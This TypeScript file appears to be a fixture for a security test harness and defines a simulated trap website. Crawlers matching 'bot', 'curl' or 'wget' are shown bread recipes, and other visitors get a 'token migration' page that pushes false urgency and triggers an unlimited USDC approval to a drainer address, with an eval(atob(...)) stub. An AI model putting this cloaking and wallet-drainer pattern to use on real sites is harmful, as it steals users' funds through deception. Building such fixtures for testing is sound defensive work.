import { approve, UNLIMITED } from '../../history/calls.ts'
import { page } from '../page.ts'
import type { SiteOf } from '../site.ts'
import { onPress, sendCode } from '../walletCode.ts'

const RECIPES = page(
  'Bread for beginners',
  `<h1>Bread for beginners</h1>
<p>Mix a pound of flour with water, salt and a spoon of yeast. Wait for an hour, fold the dough like a letter, and wait again.</p>
<p>Heat the oven as far as it goes, with a pot inside. Slide the loaf in, put the lid on, and take it off after half an hour.</p>
<p>Rye keeps longer than barley and wants more water. Both like a night in the cold.</p>`,
)

/** Bread for robots, a migration for people. */
export const cloakedPage: SiteOf = ({ tokens, traps }) => ({
  name: 'cloaked-page',
  kind: 'trap',
  twinOf: 'minified-app',
  url: 'https://barley-and-rye.test/',
  hosts: ['barley-and-rye.test'],
  sees: 'a robot is shown recipes, and a visitor wallet code under the words “token migration”',
  answer: ({ path, userAgent }) => {
    if (path !== '/') return { status: 404, headers: {}, body: '' }
    if (/bot|crawl|spider|curl|wget/i.test(userAgent)) return RECIPES
    return page(
      'Token migration',
      `<h1>Token migration</h1><p>Migrate your tokens to version 2 today: version 1 will be worthless within 24 hours.</p>
<button id="migrate">Migrate now</button>
<script>// approve(address,uint256)
${onPress('migrate', sendCode({ to: tokens.usdc, data: approve(traps.drainer, UNLIMITED) }))}
eval(atob('${btoa('window.v=2')}'))</script>`,
    )
  },
})
